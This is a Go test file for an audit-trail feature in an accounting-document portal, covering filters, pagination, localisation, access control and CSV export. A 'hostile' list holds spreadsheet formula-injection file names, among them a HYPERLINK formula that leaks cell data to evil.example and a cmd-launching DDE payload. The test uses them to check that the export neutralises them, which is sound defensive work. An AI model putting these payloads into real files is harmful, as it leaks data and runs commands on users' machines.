package server_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"bilag/db"
)

var (
	auditRowRe      = regexp.MustCompile(`(?s)<tr[^>]*>\s*<td class="when">(.*?)</td>\s*<td class="what">(.*?)</td>\s*</tr>`)
	auditSentenceRe = regexp.MustCompile(`(?s)<span class="sentence">(.*?)</span>`)
	auditSummaryRe  = regexp.MustCompile(`(?s)<details>\s*<summary>(.*?)</summary>`)
	auditDetailRe   = regexp.MustCompile(`(?s)<dt>(.*?)</dt>\s*<dd>(.*?)</dd>`)
)

// auditEntry is a row of the audit page: when, the sentence that says who
// did what, the toggle's words and the details behind it, by label.
type auditEntry struct {
	At, Sentence, Toggle string
	Details              map[string]string
}

// auditEntries reads the audit page's rows.
func auditEntries(t *testing.T, r *response) []auditEntry {
	t.Helper()
	wantStatus(t, "audit page", r, http.StatusOK)
	var out []auditEntry
	for _, m := range auditRowRe.FindAllStringSubmatch(r.Body, -1) {
		e := auditEntry{At: unescape(m[1]), Details: map[string]string{}}
		if s := auditSentenceRe.FindStringSubmatch(m[2]); s != nil {
			e.Sentence = strings.TrimSpace(unescape(s[1]))
		}
		if s := auditSummaryRe.FindStringSubmatch(m[2]); s != nil {
			e.Toggle = strings.TrimSpace(unescape(s[1]))
		}
		for _, d := range auditDetailRe.FindAllStringSubmatch(m[2], -1) {
			e.Details[unescape(d[1])] = unescape(d[2])
		}
		out = append(out, e)
	}
	return out
}

// auditSentences are the page's sentences, newest first.
func auditSentences(t *testing.T, r *response) []string {
	t.Helper()
	var out []string
	for _, e := range auditEntries(t, r) {
		out = append(out, e.Sentence)
	}
	return out
}

// auditTargets are the page's rows' targets (their "Document or object"
// detail), newest first.
func auditTargets(t *testing.T, r *response) []string {
	t.Helper()
	var out []string
	for _, e := range auditEntries(t, r) {
		out = append(out, e.Details[tr("audit.target")])
	}
	return out
}

func unescape(s string) string { return (&response{Body: s}).Text() }

// TestAuditTrail: what an analyst does to a connected company (the link,
// the approval, a document opened, "Sync now", disconnecting) is on the
// company's audit trail with who did it and when, in a zone the page names;
// viewers and non-members do not see it.
func TestAuditTrail(t *testing.T) {
	t.Parallel()
	d := newDocEnv(t)
	vs := d.vouchers(db.VoucherFilter{HasDocuments: true})
	if len(vs) == 0 {
		t.Fatal("the sandbox company has no voucher with documents")
	}
	_, docs := d.openVoucher(d.analyst, vs[0])
	if len(docs) == 0 {
		t.Fatal("voucher page links no document")
	}
	wantStatus(t, "open document", d.analyst.get(docs[0]), http.StatusOK)
	fj := "/companies/" + itoa(d.fj.ID)
	wantStatus(t, "sync now", d.analyst.post(fj+"/sync", nil), http.StatusSeeOther)
	wantStatus(t, "disconnect", d.analyst.post(fj+"/connection/disconnect", url.Values{"confirm": {"yes"}}), http.StatusSeeOther)
	doc, err := d.db.VoucherDocuments(t.Context(), d.fj.ID, vs[0].ID)
	if err != nil || len(doc) == 0 {
		t.Fatalf("VoucherDocuments() = %v, %v", doc, err)
	}

	conn, err := d.db.Connection(t.Context(), d.fj.ID, "eaccounting")
	if err != nil || conn.ApprovedBy == "" {
		t.Fatalf("Connection() = %+v, %v; want one approved by someone", conn, err)
	}
	system := words().ConnectorName("en", "eaccounting")
	// The approver's name from the upstream, with the link they used.
	approval := regexp.MustCompile("^" + strings.ReplaceAll(regexp.QuoteMeta(tr("audit.says.connect", conn.ApprovedBy, system, "LINK")), "LINK", `\d+`) + "$")
	if got := auditSentences(t, d.analyst.get(fj+"/audit?action=connect")); !slices.ContainsFunc(got, approval.MatchString) {
		t.Errorf("the approval's row does not say %s approved: %q", conn.ApprovedBy, got)
	}
	r := d.analyst.get(fj + "/audit")
	got := auditSentences(t, r)
	analyst := d.env.analyst.Name
	for _, want := range []string{
		tr("audit.says.disconnect", analyst, system),
		tr("audit.says.sync_request", analyst),
		tr("audit.says.document_open", analyst, doc[0].FileName, vs[0].Number),
	} {
		if !slices.Contains(got, want) {
			t.Errorf("audit trail has no row %q; rows:\n%s", want, strings.Join(got, "\n"))
		}
	}
	madeLink := regexp.MustCompile("^" + strings.ReplaceAll(regexp.QuoteMeta(tr("audit.says.link_create", analyst, "LINK")), "LINK", `\d+`) + "$")
	if i, j := slices.Index(got, tr("audit.says.disconnect", analyst, system)), slices.IndexFunc(got, madeLink.MatchString); j < 0 || i > j {
		t.Errorf("the trail is not newest first, or has no link made: disconnect at row %d, link at %d", i, j)
	}
	zone := d.clock.Now().In(portalZone(t)).Format("MST")
	for _, e := range auditEntries(t, r) {
		if !regexp.MustCompile(`^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d ` + regexp.QuoteMeta(zone) + `$`).MatchString(e.At) {
			t.Errorf("audit time %q does not carry its zone %s", e.At, zone)
		}
	}
	if page := d.analyst.get(fj); !strings.Contains(page.Body, `href="`+fj+`/audit"`) {
		t.Errorf("the company page does not link its audit trail for an analyst")
	}

	if r := d.viewer.get(fj + "/audit"); r.Status != http.StatusForbidden {
		t.Errorf("GET audit as viewer = %d, want 403", r.Status)
	}
	if page := d.viewer.get(fj); strings.Contains(page.Body, fj+"/audit") {
		t.Errorf("the company page links the audit trail for a viewer")
	}
	for _, p := range []string{"/audit", "/audit.csv"} {
		path := "/companies/" + itoa(d.hidden.ID) + p
		if r := d.analyst.get(path); r.Status != http.StatusNotFound || strings.Contains(r.Body, d.hidden.Name) {
			t.Errorf("GET %s as a non-member = %d, want 404 without the company's name", path, r.Status)
		}
	}
}

// auditSeed writes events for Fjällbacka a day apart, and one for another
// company; it returns the local day of each Fjällbacka event.
func (e *env) auditSeed(events ...db.AuditEvent) []string {
	e.t.Helper()
	var days []string
	for _, ev := range events {
		ev.CompanyID = &e.fj.ID
		if err := e.db.Audit(e.t.Context(), ev); err != nil {
			e.t.Fatal(err)
		}
		days = append(days, e.clock.Now().In(portalZone(e.t)).Format("2006-01-02"))
		e.clock.Advance(24 * time.Hour)
	}
	other := db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, CompanyID: &e.norrsken.ID, Target: "norrsken.pdf"}
	if err := e.db.Audit(e.t.Context(), other); err != nil {
		e.t.Fatal(err)
	}
	return days
}

// hostile are file names a spreadsheet would run as formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"Faktura")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"}

// TestAuditFilters: each filter (what, who, from, to) narrows the page and
// the CSV alike; dates in the wrong order are said, not obeyed.
func TestAuditFilters(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin, analyst := e.admin.Email, e.analyst.Email
	days := e.auditSeed(
		db.AuditEvent{Action: db.AuditLinkCreate, Actor: analyst, Target: "link 1"},
		db.AuditEvent{Action: db.AuditDocumentOpen, Actor: analyst, Target: "faktura.pdf"},
		db.AuditEvent{Action: db.AuditDocumentOpen, Actor: admin, Target: "kvitto.jpg"},
		db.AuditEvent{Action: db.AuditDisconnect, Actor: admin, Target: "eaccounting"},
	)
	b := e.loggedIn(e.analyst)
	base := "/companies/" + itoa(e.fj.ID) + "/audit"
	tests := []struct {
		name  string
		query url.Values
		want  []string // targets, newest first
	}{
		{"everything", nil, []string{"eaccounting", "kvitto.jpg", "faktura.pdf", "link 1"}},
		{"what", url.Values{"action": {db.AuditDocumentOpen}}, []string{"kvitto.jpg", "faktura.pdf"}},
		{"who", url.Values{"actor": {admin}}, []string{"eaccounting", "kvitto.jpg"}},
		{"from", url.Values{"from": {days[2]}}, []string{"eaccounting", "kvitto.jpg"}},
		{"to (whole day)", url.Values{"to": {days[1]}}, []string{"faktura.pdf", "link 1"}},
		{"one day", url.Values{"from": {days[1]}, "to": {days[1]}}, []string{"faktura.pdf"}},
		{"all at once", url.Values{"action": {db.AuditDocumentOpen}, "actor": {analyst}, "from": {days[0]}, "to": {days[3]}}, []string{"faktura.pdf"}},
		{"nothing", url.Values{"actor": {"nobody@firm.test"}}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if page := auditTargets(t, b.get(base+"?"+tt.query.Encode())); !slices.Equal(page, tt.want) {
				t.Errorf("page rows = %q, want %q", page, tt.want)
			}
			var file []string
			for _, rec := range readAuditCSV(t, b.get(base+".csv?"+tt.query.Encode()))[1:] {
				file = append(file, rec[3])
			}
			if !slices.Equal(file, tt.want) {
				t.Errorf("CSV rows = %q, want %q", file, tt.want)
			}
		})
	}
	r := b.get(base + "?from=" + days[2] + "&to=" + days[0])
	wantText(t, "dates in the wrong order", r, tr("audit.err.order"))
	if got := auditEntries(t, r); len(got) != 4 {
		t.Errorf("with the dates refused the page has %d rows, want all 4", len(got))
	}
	if r := b.get(base + ".csv?from=" + days[2] + "&to=" + days[0]); r.Status != http.StatusBadRequest {
		t.Errorf("CSV with dates in the wrong order = %d, want 400", r.Status)
	}
}

func readAuditCSV(t *testing.T, r *response) [][]string {
	t.Helper()
	wantStatus(t, "audit CSV", r, http.StatusOK)
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q, want text/csv; charset=utf-8", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") {
		t.Errorf("Content-Disposition = %q, want an attachment", cd)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, r.Body)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], []string{"time", "actor", "action", "target", "detail", "remote_ip"}) {
		t.Fatalf("CSV header = %q", recs)
	}
	return recs
}

// TestAuditCSV: the export has a header, times with their offset, and
// hostile file names made harmless text for spreadsheets.
func TestAuditCSV(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	var evs []db.AuditEvent
	for _, h := range hostile {
		evs = append(evs, db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, Target: h, Detail: h, RemoteIP: "192.0.2.7"})
	}
	e.auditSeed(evs...)
	recs := readAuditCSV(t, e.loggedIn(e.admin).get("/companies/"+itoa(e.fj.ID)+"/audit.csv"))[1:]
	if len(recs) != len(hostile) {
		t.Fatalf("CSV has %d rows, want %d (Fjällbacka's only)", len(recs), len(hostile))
	}
	for i, rec := range recs {
		h := hostile[len(hostile)-1-i]
		if rec[3] != "'"+h || rec[4] != "'"+h {
			t.Errorf("row %d target, detail = %q, %q; want %q with a leading quote", i, rec[3], rec[4], h)
		}
		if at, err := time.Parse(time.RFC3339, rec[0]); err != nil || rec[1] != e.analyst.Email || rec[2] != db.AuditDocumentOpen || rec[5] != "192.0.2.7" {
			t.Errorf("row %d = %q (time: %v), want an RFC 3339 time, the analyst, document_open and the address", i, rec, err)
		} else if _, off := at.Zone(); off != func() int { _, o := at.In(portalZone(t)).Zone(); return o }() {
			t.Errorf("row %d time %s is not in the audit zone", i, rec[0])
		}
	}
}

// TestAuditPages: a hundred events a page, with links both ways.
func TestAuditPages(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	for i := range 101 {
		if err := e.db.Audit(t.Context(), db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, CompanyID: &e.fj.ID, Target: fmt.Sprintf("doc-%03d.pdf", i)}); err != nil {
			t.Fatal(err)
		}
	}
	b := e.loggedIn(e.analyst)
	base := "/companies/" + itoa(e.fj.ID) + "/audit?action=document_open"
	first := b.get(base)
	if rows := auditTargets(t, first); len(rows) != 100 || rows[0] != "doc-100.pdf" {
		t.Fatalf("page 1 has %d rows starting %q, want 100 starting with doc-100.pdf", len(rows), rows[:min(1, len(rows))])
	}
	if !strings.Contains(first.Body, `page=2" rel="next"`) || !strings.Contains(first.Body, "action=document_open&amp;page=2") {
		t.Errorf("page 1 has no link to page 2 keeping the filter")
	}
	second := b.get(base + "&page=2")
	if rows := auditTargets(t, second); len(rows) != 1 || rows[0] != "doc-000.pdf" {
		t.Errorf("page 2 = %q, want doc-000.pdf alone", rows)
	}
	if strings.Contains(second.Body, `rel="next"`) || !strings.Contains(second.Body, `rel="prev"`) {
		t.Errorf("page 2 links onwards or not back")
	}
	if recs := readAuditCSV(t, b.get("/companies/"+itoa(e.fj.ID)+"/audit.csv")); len(recs) != 102 {
		t.Errorf("CSV has %d lines, want the header and all 101 events", len(recs))
	}
}

// Every action a company's trail can hold has words of its own: the page
// would otherwise print its catalogue key.
func TestAuditActionsHaveWords(t *testing.T) {
	t.Parallel()
	for _, a := range db.CompanyAuditActions() {
		key := "audit.action." + a
		if got := tr(key); got == key {
			t.Errorf("audit action %q has no words (%s)", a, key)
		}
	}
}

// TestAuditReadable (issue 25 item 10): each row of the audit trail is one
// sentence in the reader's language saying who did what, with the stored
// fields behind a toggle and every time in the reader's zone (none left as
// "…Z"); the CSV keeps the fields as stored.
func TestAuditReadable(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	expires := "2026-12-24T16:00:00Z"
	e.auditSeed(
		db.AuditEvent{Action: db.AuditLinkCreate, UserID: &e.analyst.ID, Actor: e.analyst.Email, Target: "link 7",
			Detail: "connector=eaccounting expires=" + expires + " expected_org=556812-3474", RemoteIP: "192.0.2.7"},
		db.AuditEvent{Action: db.AuditConnect, Actor: "Anna Lindqvist (consent link 7)", Target: "eaccounting", Detail: "Fjällbacka Snickeri AB 556812-3474"},
		db.AuditEvent{Action: db.AuditDocumentOpen, UserID: &e.analyst.ID, Actor: e.analyst.Email, Target: "invoice.pdf",
			Detail: "voucher=A 12 document=5 kind=invoice bytes=1234 sha256=ab"},
	)
	system := words().ConnectorName("en", "eaccounting")
	b := e.loggedIn(e.analyst)
	base := "/companies/" + itoa(e.fj.ID) + "/audit"
	r := b.get(base)
	want := []string{
		tr("audit.says.document_open", e.analyst.Name, "invoice.pdf", "A 12"),
		tr("audit.says.connect", "Anna Lindqvist", system, "7"),
		tr("audit.says.link_create", e.analyst.Name, "7"),
	}
	if got := auditSentences(t, r); !slices.Equal(got, want) {
		t.Fatalf("sentences = %q, want %q", got, want)
	}
	rows := auditEntries(t, r)
	for i, row := range rows {
		if row.Toggle != tr("audit.details") || row.Details[tr("audit.actor")] == "" {
			t.Errorf("row %d has no details behind a toggle %q: %+v", i, tr("audit.details"), row)
		}
	}
	at, _ := time.Parse(time.RFC3339, expires)
	if got, want := rows[2].Details["expires"], at.In(portalZone(t)).Format("2006-01-02 15:04:05 MST"); got != want {
		t.Errorf("the link's expiry reads %q, want %q (the reader's zone)", got, want)
	}
	if got := rows[0].Details["voucher"]; got != "A 12" {
		t.Errorf("the open's voucher detail = %q, want A 12", got)
	}
	if raw := regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d(:\d\d)?(\.\d+)?Z`).FindString(r.Body); raw != "" {
		t.Errorf("the page shows a raw UTC time %q", raw)
	}

	b.get("/lang?l=fi&next=" + url.QueryEscape(base))
	if got := auditSentences(t, b.get(base)); len(got) != 3 || got[0] != words().Translate("fi", "audit.says.document_open", e.analyst.Name, "invoice.pdf", "A 12") {
		t.Errorf("in Finnish the sentences are %q", got)
	}

	recs := readAuditCSV(t, b.get(base+".csv"))[1:]
	if len(recs) != 3 || recs[2][1] != e.analyst.Email || recs[2][2] != db.AuditLinkCreate || recs[2][3] != "link 7" ||
		recs[2][4] != "connector=eaccounting expires="+expires+" expected_org=556812-3474" || recs[1][1] != "Anna Lindqvist (consent link 7)" {
		t.Errorf("the CSV does not keep the fields as stored: %q", recs)
	}
}
